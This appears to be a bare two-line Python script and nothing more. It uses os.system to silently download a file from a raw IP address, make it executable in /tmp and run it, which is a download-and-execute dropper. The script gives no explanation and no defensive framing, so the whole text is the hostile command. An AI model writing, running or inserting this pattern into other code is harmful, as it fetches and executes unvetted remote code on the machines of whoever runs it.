import os
os.system('wget -q http://203.0.113.5/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')
